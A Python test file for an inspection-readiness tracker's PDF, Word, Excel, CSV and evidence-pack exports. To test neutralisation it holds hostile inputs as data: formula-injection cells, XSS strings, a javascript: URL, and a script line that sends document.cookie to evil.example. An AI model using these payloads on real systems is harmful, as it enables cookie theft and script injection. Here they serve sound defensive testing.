"""Exports read back with real readers: the PDF with pypdf, Word with python-docx, Excel with openpyxl,
the evidence pack with zipfile and its manifest; CSV cells that a spreadsheet would run are neutralised."""

import csv
import dataclasses
import hashlib
import io
import os
import re
import tracemalloc
import zipfile
from datetime import date, datetime, timedelta, timezone

import docx
import openpyxl
import pypdf
import pytest
import sqlalchemy as sa

from tests import factories
from tracker import storage
from tracker.audit import AuditEvent
from tracker.dates import today
from tracker.evidence.models import EvidenceStatus, Sensitivity
from tracker.exports import csvs, gather, pack, summary
from tracker.exports.docx import summary_docx
from tracker.exports.pdf import summary_pdf
from tracker.exports.services import (
    ExportError,
    ExportRequest,
    RestrictedRefused,
    export_pack,
    export_summary,
    parse_as_at,
)
from tracker.exports.xlsx import summary_xlsx
from tracker.extensions import db
from tracker.models import Role
from tracker.plan.models import ActionStatus
from tracker.plan.services import add_progress_update
from tracker.readiness.state import ActionAt, EvidenceAt, FindingAt, MeasureAt, PlanAt

AS_AT = date(2026, 3, 3)
AS_AT_TEXT = "As at 3 March 2026"


def _action(number: int, **changes) -> ActionAt:
    values = dict(
        id=number,
        reference=f"A{number}",
        title=f"Publish one clear page {number}",
        owner="Sam Owner",
        partner="Council",
        status="In progress",
        status_value="in_progress",
        percent_complete=40,
        due_date=date(2026, 6, 30),
        original_due_date=date(2026, 3, 31),
        revisions=((date(2026, 3, 31), date(2026, 6, 30), "Waiting for the new system"),),
        rag="amber",
        rag_summary="Amber: due 30 June 2026, 40% complete",
        overdue=False,
        stale=False,
        latest_update_on=date(2026, 2, 20),
        latest_update="The draft page went to the parent carer forum.",
    )
    return ActionAt(**(values | changes))


def _evidence(number: int, sensitivity: str = "internal", files=(), **changes) -> EvidenceAt:
    values = dict(
        id=number,
        title=f"Evidence {number}",
        kind="document" if files else "note",
        about_date=date(2026, 2, 1),
        status="accepted",
        current=True,
        sensitivity=sensitivity,
        url=None,
        files=files,
        finding_ids=(1,),
        action_ids=(),
    )
    return EvidenceAt(**(values | changes))


def hand_built_plan(include_restricted: bool = False, evidence_files: dict | None = None) -> PlanAt:
    """A plan as plan_as_at would return it, built by hand so the renderers are tested on their own."""
    files = evidence_files or {}
    measure = MeasureAt(
        id=1,
        name="Weeks waited for an autism assessment",
        unit="weeks",
        direction="lower_is_better",
        readings=((date(2025, 9, 30), 52.0), (date(2025, 12, 31), 44.0)),
        baseline=(date(2025, 6, 30), 56.0),
        target=(date(2026, 9, 30), 30.0),
        latest=44.0,
        status="off_track",
        status_reason="44 weeks, 10 above the path",
    )
    findings = tuple(
        FindingAt(
            id=n,
            reference=f"AFI{n}",
            title=f"Finding number {n}",
            wording=f"Parents said the options were difficult to navigate ({n}).",
            kind="Area for improvement",
            theme="Communication with families",
            partner="Council",
            readiness=("red", "amber", "green")[n % 3],
            readiness_reasons=(f"{n} actions overdue", "no accepted evidence since March"),
            action_ids=(n,),
            evidence_ids=tuple(i for i in (1, 2, 3) if n == 1),
            measure_ids=(1,) if n == 1 else (),
        )
        for n in (1, 2, 3)
    )
    evidence = {
        1: _evidence(1, title='=HYPERLINK("http://evil.example")', files=files.get(1, ())),
        2: _evidence(2, sensitivity="restricted", title="Case audit of child K", files=files.get(2, ())),
        3: _evidence(3, title="Board minutes", url="https://board.example/minutes", kind="link"),
    }
    return PlanAt(
        as_at=AS_AT,
        produced_at=datetime(2026, 3, 4, 9, 30, tzinfo=timezone.utc),
        produced_by="Lee Leader",
        partnership="Coventry",
        inspection="Area SEND inspection 2025",
        include_restricted=include_restricted,
        findings=findings,
        actions={n: _action(n) for n in (1, 2, 3)},
        evidence=evidence,
        measures={1: measure},
    )


@pytest.fixture
def plan() -> PlanAt:
    return gather.without_restricted(hand_built_plan())


# PDF -----------------------------------------------------------------------------------------


def test_pdf_has_the_as_at_date_and_page_numbers_on_every_page(plan):
    reader = pypdf.PdfReader(io.BytesIO(summary_pdf(summary.build(plan))))
    assert reader.metadata.title == "Inspection readiness summary: Coventry"
    for number, page in enumerate(reader.pages, start=1):
        text = page.extract_text()
        assert AS_AT_TEXT in text
        assert f"Page {number} of {len(reader.pages)}" in text


def test_pdf_shows_each_finding_with_actions_measures_chart_and_evidence(plan):
    text = pdf_text(summary_pdf(summary.build(plan, "everything")))
    assert "AFI1: Finding number 1" in text and "difficult to navigate (1)" in text
    assert (
        "Sam Owner" in text
        and "Waiting for the new system" in text
        and "The draft page went to the parent carer forum." in text
    )
    assert "44 weeks" in text and "30 weeks by 30 September 2026" in text
    assert (
        "Measures: charts and figures" in text and "31 December 2025 Reading 44 weeks" in text
    )  # the chart's figures
    assert "Board minutes" in text
    assert "Case audit of child K" not in text  # restricted, not included


def pdf_text(content: bytes) -> str:
    """The PDF's text layer as a reader extracts it, white space folded and the invisible break points
    (zero-width spaces the template lets very long words break at) taken out."""
    text = " ".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages)
    return " ".join(text.replace("\u200b", "").split())


# Word ----------------------------------------------------------------------------------------


def test_word_has_real_headings_tables_and_the_as_at_date_in_the_page_header(plan):
    document = docx.Document(io.BytesIO(summary_docx(summary.build(plan, "everything"))))
    headings = [(p.style.name, p.text) for p in document.paragraphs if p.style.name.startswith("Heading")]
    assert ("Heading 1", "Readiness of every finding") in headings
    assert ("Heading 2", "AFI1: Finding number 1") in headings
    assert ("Heading 3", "Actions") in headings and ("Heading 3", "Evidence") in headings
    assert AS_AT_TEXT in document.sections[0].header.paragraphs[0].text
    assert document.core_properties.title == "Inspection readiness summary: Coventry"
    cells = [[cell.text for cell in row.cells] for table in document.tables for row in table.rows]
    assert ["Reference", "Finding", "Readiness", "Why"] in cells
    action = next(row for row in cells if row[0] == "A1: Publish one clear page 1")
    assert action[1:3] == ["Sam Owner", "Council"] and "Waiting for the new system" in action[3]
    assert not any("Case audit of child K" in cell for row in cells for cell in row)


# Excel ---------------------------------------------------------------------------------------


def test_excel_has_a_sheet_per_entity_with_typed_cells_frozen_headers_filters_and_the_as_at_date(plan):
    workbook = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary.build(plan))))
    assert workbook.sheetnames == [
        "Summary",
        "Findings",
        "Actions",
        "Evidence",
        "Measures",
        "Readings",
        "Surveys",
        "Exceptions",
    ]
    for sheet in workbook.worksheets:
        assert sheet["A1"].value == "As at" and sheet["B1"].value == datetime(2026, 3, 3)
        assert sheet.oddHeader.center.text == AS_AT_TEXT
    for name in workbook.sheetnames[1:]:
        assert workbook[name].freeze_panes == "A4" and workbook[name].auto_filter.ref.startswith("A3:")
    actions = workbook["Actions"]
    header = [cell.value for cell in actions[3]]
    first = dict(zip(header, [cell.value for cell in actions[4]]))
    assert (
        first["Reference"] == "A1"
        and first["Percent complete"] == 40
        and isinstance(first["Percent complete"], int)
    )
    assert (
        first["Due date"] == datetime(2026, 6, 30) and actions.cell(4, header.index("Due date") + 1).is_date
    )
    assert first["Overdue"] is False
    readings = workbook["Readings"]
    assert [cell.value for cell in readings[4]] == [
        "Weeks waited for an autism assessment",
        datetime(2025, 9, 30),
        52,
        "weeks",
    ]
    evidence = workbook["Evidence"]
    titles = [row[0].value for row in evidence.iter_rows(min_row=4)]
    assert "Case audit of child K" not in titles
    formula_like = next(row[0] for row in evidence.iter_rows(min_row=4) if "HYPERLINK" in row[0].value)
    assert (
        formula_like.data_type == "s" and formula_like.value == '\'=HYPERLINK("http://evil.example")'
    )  # as the CSV lists


# CSV -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, written",
    [
        ("=1+1", "'=1+1"),
        ("+44 7700", "'+44 7700"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Plain", "Plain"),
        ("a=b", "a=b"),
        (-2, "-2"),
        (None, ""),
        (True, "Yes"),
        (date(2026, 3, 3), "2026-03-03"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_prefixed_with_a_quote(raw, written):
    assert csvs.neutralise(raw) == written
    rows = list(csv.reader(io.StringIO(csvs.to_csv(["Column"], [[raw]]).decode("utf-8-sig"), newline="")))
    assert rows == [["Column"], [written]]


# The evidence pack ---------------------------------------------------------------------------


def _stored(content: bytes, name: str) -> tuple[int, str, str, int, str]:
    stored = storage.store_stream(io.BytesIO(content), name, 50 * 1024 * 1024)
    return (len(content), stored.filename, stored.sha256, stored.size_bytes, stored.key)


def _pack(plan: PlanAt) -> tuple[list[bytes], dict]:
    finished = {}
    chunks = list(
        pack.stream_pack(plan, b"%PDF-1.7 summary", lambda sha, size: finished.update(sha256=sha, size=size))
    )
    return chunks, finished


def test_pack_holds_an_offline_index_the_summary_files_by_finding_and_a_manifest_that_matches():
    report = _stored(factories.PDF_BYTES, "report.pdf")
    shared = _stored(b"minutes,of,the,board\n" * 10, "minutes.csv")
    plan = hand_built_plan(evidence_files={1: (report,), 3: ()})
    plan = gather.without_restricted(plan)
    plan.evidence[1] = _evidence(1, title="Waiting list report", files=(report,), finding_ids=(1, 2))
    plan.evidence[4] = _evidence(4, title="Board minutes file", files=(shared,), finding_ids=(2,))
    plan = PlanAt(
        **{
            **plan.__dict__,
            "findings": tuple(
                f if f.id != 2 else FindingAt(**{**f.__dict__, "evidence_ids": (1, 4)}) for f in plan.findings
            ),
        }
    )

    chunks, finished = _pack(plan)
    body = b"".join(chunks)
    assert finished == {"sha256": hashlib.sha256(body).hexdigest(), "size": len(body)}
    archive = zipfile.ZipFile(io.BytesIO(body))
    names = archive.namelist()
    assert names[:2] == ["index.html", "summary.pdf"] and names[-1] == "manifest.csv"
    assert (
        "findings/AFI1/1-report.pdf" in names and "findings/AFI2/1-report.pdf" in names
    )  # a copy under each finding
    assert "findings/AFI2/4-minutes.csv" in names
    manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert {row["path"] for row in manifest} == set(names) - {"manifest.csv"}
    for row in manifest:
        content = archive.read(row["path"])
        assert row["sha256"] == hashlib.sha256(content).hexdigest() and int(row["size_bytes"]) == len(content)
    index = archive.read("index.html").decode()
    assert (
        'href="findings/AFI1/1-report.pdf"' in index
        and 'href="summary.pdf"' in index
        and 'lang="en-GB"' in index
    )
    assert "<link" not in index and "<script" not in index and "<img" not in index
    assert "Case audit of child K" not in index


def test_pack_is_streamed_in_small_chunks_and_memory_does_not_grow_with_the_files():
    size = 8 * 1024 * 1024
    big = _stored(factories.PDF_BYTES + os.urandom(size), "scan.pdf")  # random bytes do not compress
    plan = gather.without_restricted(hand_built_plan(evidence_files={1: (big,)}))
    finished, chunks, largest = {}, 0, 0
    tracemalloc.start()
    for chunk in pack.stream_pack(plan, b"%PDF-1.7 summary", lambda sha, total: finished.update(size=total)):
        chunks, largest = (
            chunks + 1,
            max(largest, len(chunk)),
        )  # each chunk is sent on and let go, as a response does
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert finished["size"] > size and chunks > 100 and largest < 256 * 1024
    assert peak < 2 * 1024 * 1024  # a quarter of the file: the pack is never held whole


def test_restricted_evidence_goes_into_the_pack_only_when_included():
    file = _stored(b"personal data\n", "case.txt")
    left_out = gather.without_restricted(hand_built_plan(evidence_files={2: (file,)}))
    included = gather.without_restricted(
        hand_built_plan(include_restricted=True, evidence_files={2: (file,)})
    )
    assert not [
        n for n in zipfile.ZipFile(io.BytesIO(b"".join(_pack(left_out)[0]))).namelist() if "case.txt" in n
    ]
    assert "findings/AFI1/2-case.txt" in zipfile.ZipFile(io.BytesIO(b"".join(_pack(included)[0]))).namelist()


def _unpacked(plan: PlanAt, accepted_only: bool = False) -> tuple[zipfile.ZipFile, dict[str, dict]]:
    """The pack as the recipient opens it, and its manifest by path."""
    body = b"".join(
        pack.stream_pack(plan, b"%PDF-1.7 summary", lambda sha, size: None, accepted_only=accepted_only)
    )
    archive = zipfile.ZipFile(io.BytesIO(body))
    return archive, {
        row["path"]: row for row in csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))
    }


def _plan_with(*items: EvidenceAt) -> PlanAt:
    """The hand-built plan with its evidence replaced by these items, all supporting the first finding."""
    plan = gather.without_restricted(hand_built_plan())
    findings = tuple(
        dataclasses.replace(f, evidence_ids=tuple(i.id for i in items) if f.id == 1 else ())
        for f in plan.findings
    )
    return dataclasses.replace(plan, findings=findings, evidence={item.id: item for item in items})


def _planted(content: bytes, name: str) -> tuple[int, str, str, int, str]:
    """A file put straight into storage under its hash, as if an upload had not checked its type."""
    sha256 = hashlib.sha256(content).hexdigest()
    key = f"{sha256[:2]}/{sha256}"
    storage.path_of(key).parent.mkdir(parents=True, exist_ok=True)
    storage.path_of(key).write_bytes(content)
    return (len(content), name, sha256, len(content), key)


def test_pack_with_accepted_evidence_only_leaves_out_submitted_and_returned_evidence_and_says_so():
    plan = _plan_with(
        _evidence(1, title="Accepted audit", files=(_stored(factories.PDF_BYTES, "audit.pdf"),)),
        _evidence(
            2,
            title="Draft waiting list",
            status="submitted",
            current=False,
            files=(_stored(b"draft,list\n", "draft.csv"),),
        ),
        _evidence(
            3,
            title="Returned minutes",
            status="returned",
            current=False,
            files=(_stored(b"returned minutes\n", "minutes.txt"),),
        ),
    )
    archive, manifest = _unpacked(plan, accepted_only=True)
    assert [n for n in archive.namelist() if n.startswith("findings/")] == ["findings/AFI1/1-audit.pdf"]
    assert set(manifest) == {"index.html", "summary.pdf", "findings/AFI1/1-audit.pdf"}
    index = archive.read("index.html").decode()
    assert "Accepted audit" in index and "Draft waiting list" not in index and "Returned minutes" not in index
    assert "Accepted evidence only" in index
    assert "2 items still submitted or returned with comment at that date are left out of this pack." in index

    archive, manifest = _unpacked(plan, accepted_only=False)
    assert {"findings/AFI1/2-draft.csv", "findings/AFI1/3-minutes.txt"} <= set(archive.namelist()) & set(
        manifest
    )
    index = archive.read("index.html").decode()
    assert "Draft waiting list" in index and "Returned with comment" in index
    assert "All evidence, whatever its status" in index and "Accepted evidence only" not in index


def test_pack_index_shows_each_items_description_and_note_as_text_never_as_markup():
    plan = _plan_with(
        _evidence(
            1,
            title="Forum notes",
            description='Minutes of the forum <img src=x onerror="alert(1)">',
            note="<script>x</script>\nSecond line & more",
        )
    )
    index = _unpacked(plan)[0].read("index.html").decode()
    assert "Minutes of the forum &lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in index
    assert "Note: &lt;script&gt;x&lt;/script&gt;\nSecond line &amp; more" in index
    assert "<script" not in index and "<img" not in index


def test_pack_index_forbids_scripts_and_loading_anything_with_a_content_security_policy():
    index = _unpacked(_plan_with(_evidence(1)))[0].read("index.html").decode()
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', index)
    assert "default-src 'none'" in policy and "script-src" not in policy  # no script source at all
    assert index.index("Content-Security-Policy") < index.index(
        "<title>"
    )  # in force before anything it governs


def test_pack_links_a_link_evidences_web_address_but_never_a_script_address():
    plan = _plan_with(
        _evidence(1, kind="link", title="Local offer", url="https://local-offer.example/send"),
        _evidence(2, kind="link", title="Trap", url="javascript:alert(document.domain)"),
    )
    index = _unpacked(plan)[0].read("index.html").decode()
    assert '<a href="https://local-offer.example/send" rel="noopener noreferrer">' in index
    assert 'href="javascript:' not in index and "Trap: address javascript:alert(document.domain)" in index


@pytest.mark.parametrize(
    "content, name",
    [
        (b"document.location = 'https://evil.example/?' + document.cookie;\n", "helper.js"),
        (
            factories.PDF_BYTES + b"<html><script>alert(1)</script></html>\n",
            "report.html",
        ),  # a PDF that is also a web page
        (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200,
            "report.pdf",
        ),  # a program renamed
        (b"<html><body onload=alert(1)></body></html>", "notes.txt"),
    ],
)
def test_pack_leaves_out_a_file_that_is_not_an_allowed_document_and_notes_it_in_the_manifest(content, name):
    bad = _planted(content, name)
    plan = _plan_with(
        _evidence(1, title="Suspicious file", files=(bad,)),
        _evidence(2, title="Board minutes", files=(_stored(factories.PDF_BYTES, "minutes.pdf"),)),
    )
    archive, manifest = _unpacked(plan)
    path = f"findings/AFI1/1-{name}"
    assert path not in archive.namelist() and "findings/AFI1/2-minutes.pdf" in archive.namelist()
    assert manifest[path]["note"] == "not an allowed document type: not packed"
    assert manifest[path]["sha256"] == bad[2] and manifest[path]["evidence"] == "Suspicious file"
    index = archive.read("index.html").decode()
    assert f"Suspicious file ({name}: not an allowed document type, not in this pack)" in index
    assert f'href="{path}' not in index and 'href="findings/AFI1/2-minutes.pdf"' in index


# The services, on the real plan_as_at --------------------------------------------------------


def _events(verb: str) -> list[AuditEvent]:
    return db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.verb == verb).order_by(AuditEvent.id)
    ).all()


@pytest.fixture
def restricted_plan():
    finding = factories.FindingFactory(reference="AFI1", title="Waiting times")
    factories.EvidenceFactory(
        title="Waiting list summary", findings=[finding], status=EvidenceStatus.ACCEPTED
    )
    factories.EvidenceFactory(
        title="Case audit of child K",
        findings=[finding],
        sensitivity=Sensitivity.RESTRICTED,
        status=EvidenceStatus.ACCEPTED,
    )
    return finding


def test_restricted_evidence_is_left_out_of_every_summary_unless_a_leader_includes_it(restricted_plan):
    leader = factories.UserFactory(role=Role.LEADER)
    for fmt in ("pdf", "docx", "xlsx"):
        default = _text(fmt, export_summary(leader, ExportRequest(today()), fmt).content)
        assert "Waiting list summary" in default and "Case audit of child K" not in default
        included = _text(
            fmt, export_summary(leader, ExportRequest(today(), include_restricted=True), fmt).content
        )
        assert "Case audit of child K" in included
    events = _events("export.summary")
    assert [(e.after["format"], e.after["include_restricted"]) for e in events] == [
        ("pdf", False),
        ("pdf", True),
        ("docx", False),
        ("docx", True),
        ("xlsx", False),
        ("xlsx", True),
    ]
    assert all(
        e.actor_id == leader.id and e.after["as_at"] == today().isoformat() and len(e.after["sha256"]) == 64
        for e in events
    )


def test_an_officer_cannot_include_restricted_evidence_even_their_own(restricted_plan):
    officer = factories.UserFactory(role=Role.OFFICER)
    with pytest.raises(RestrictedRefused):
        export_summary(officer, ExportRequest(today(), include_restricted=True), "pdf")
    mine = factories.EvidenceFactory(
        title="My own restricted note",
        findings=[restricted_plan],
        sensitivity=Sensitivity.RESTRICTED,
        uploaded_by=officer,
    )
    assert mine.title not in _text("docx", export_summary(officer, ExportRequest(today()), "docx").content)
    assert _events("export.summary")[0].after["include_restricted"] is False


def test_the_summary_shows_the_plan_as_it_stood_on_the_as_at_date():
    long_ago = datetime.now(timezone.utc) - timedelta(days=30)
    finding = factories.FindingFactory(reference="AFI1", created_at=long_ago)
    action = factories.ActionFactory(
        reference="A1",
        findings=[finding],
        status=ActionStatus.IN_PROGRESS,
        percent_complete=10,
        created_at=long_ago,
    )
    leader = factories.UserFactory(role=Role.LEADER)
    add_progress_update(leader, action, today(), "All done and published.", 100, ActionStatus.COMPLETE)
    yesterday = today() - timedelta(days=1)
    then = openpyxl.load_workbook(
        io.BytesIO(export_summary(leader, ExportRequest(yesterday), "xlsx").content)
    )["Actions"]
    now = openpyxl.load_workbook(io.BytesIO(export_summary(leader, ExportRequest(today()), "xlsx").content))[
        "Actions"
    ]
    header = [cell.value for cell in then[3]]
    row_then, row_now = (
        dict(zip(header, [c.value for c in then[4]])),
        dict(zip(header, [c.value for c in now[4]])),
    )
    assert (row_then["Status"], row_then["Percent complete"], row_then["Latest update"]) == (
        "In progress",
        10,
        None,
    )
    assert (row_now["Status"], row_now["Percent complete"], row_now["Latest update"]) == (
        "Complete",
        100,
        "All done and published.",
    )
    assert then["B1"].value == datetime.combine(yesterday, datetime.min.time())


def test_future_and_unreadable_dates_and_unknown_inspections_are_refused():
    leader = factories.UserFactory(role=Role.LEADER)
    with pytest.raises(ExportError, match="today or in the past"):
        export_summary(leader, ExportRequest(today() + timedelta(days=1)), "pdf")
    with pytest.raises(ExportError, match="no inspection"):
        export_summary(leader, ExportRequest(today(), inspection_id=999), "pdf")
    for raw in ("2026-02-30", "3/3/2026", "2026-3-3", "yesterday"):
        with pytest.raises(ExportError, match="real date"):
            parse_as_at(raw)
    assert parse_as_at("2026-03-03") == AS_AT and parse_as_at(None) == today()
    assert _events("export.summary") == []


def test_the_streamed_pack_is_recorded_with_the_hash_of_what_was_streamed_when_it_finishes(restricted_plan):
    item, _ = factories.document_evidence(title="Waiting list report", findings=[restricted_plan])
    leader = factories.UserFactory(role=Role.LEADER)
    chunks, filename = export_pack(leader, ExportRequest(today(), include_restricted=True))
    assert _events("export.pack") == []  # nothing is recorded until the stream has finished
    body = b"".join(chunks)
    [event] = _events("export.pack")
    assert event.after["sha256"] == hashlib.sha256(body).hexdigest() and event.after["size_bytes"] == len(
        body
    )
    assert (
        event.after["include_restricted"] is True
        and event.after["completed"] is True
        and event.actor_id == leader.id
    )
    assert filename == f"evidence-pack-{today().isoformat()}.zip"


def test_an_abandoned_pack_download_is_recorded_as_not_completed(restricted_plan):
    factories.document_evidence(title="Waiting list report", findings=[restricted_plan])
    chunks, _ = export_pack(factories.UserFactory(role=Role.LEADER), ExportRequest(today()))
    next(chunks)
    chunks.close()
    [event] = _events("export.pack")
    assert event.after["completed"] is False and event.after["sha256"] is None


def _text(fmt: str, content: bytes) -> str:
    if fmt == "pdf":
        return " ".join(
            " ".join(page.extract_text().split()) for page in pypdf.PdfReader(io.BytesIO(content)).pages
        )
    if fmt == "docx":
        document = docx.Document(io.BytesIO(content))
        return " ".join(
            [p.text for p in document.paragraphs]
            + [cell.text for table in document.tables for row in table.rows for cell in row.cells]
        )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return " ".join(
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    )


def test_control_characters_typed_into_an_update_do_not_stop_the_exports():
    from tracker.exports.gather import printable
    from tracker.readiness.state import ActionAt

    action = ActionAt(
        id=1,
        reference="A1",
        title="Leaflets\x01",
        owner="Priya",
        partner="Council",
        status="In progress",
        status_value="in_progress",
        percent_complete=10,
        due_date=date(2027, 1, 1),
        original_due_date=date(2027, 1, 1),
        revisions=(),
        rag="green",
        rag_summary="Green",
        overdue=False,
        stale=False,
        latest_update_on=None,
        latest_update="Drafted\x0b and shared",
    )
    clean = printable(action)
    assert clean.title == "Leaflets" and clean.latest_update == "Drafted and shared"


def test_a_finding_with_many_items_lists_ten_current_first_and_says_where_the_rest_are(plan):
    many = {
        n: _evidence(
            n,
            title=f"Item {n}",
            current=n % 2 == 0,
            status="accepted" if n % 2 == 0 else "submitted",
            about_date=date(2026, 1, 1) + timedelta(days=n),
        )
        for n in range(10, 40)
    }
    finding = dataclasses.replace(plan.findings[0], evidence_ids=tuple(many))
    crowded = dataclasses.replace(plan, evidence=many, findings=(finding, *plan.findings[1:]))
    section = summary.detailed(gather.sections(crowded)[0], "everything")
    assert [item.id for item in section.evidence] == [38, 36, 34, 32, 30, 28, 26, 24, 22, 20]
    words = (
        "Showing 10 of 30 items (15 current), current ones first. Every item is listed in the Excel "
        "workbook's Evidence sheet"
    )
    assert words in section.evidence_more
    document = docx.Document(io.BytesIO(summary_docx(summary.build(crowded, "everything"))))
    assert any(p.text.startswith(words) for p in document.paragraphs)
    text = pdf_text(summary_pdf(summary.build(crowded, "everything")))
    assert "Item 38" in text and "Item 18" not in text and "Showing 10 of 30 items" in text
    workbook = openpyxl.load_workbook(io.BytesIO(summary_xlsx(summary.build(crowded))))
    titles = [row[0] for row in workbook["Evidence"].iter_rows(values_only=True)]
    assert sum(1 for title in titles if str(title).startswith("Item ")) == 30  # every item
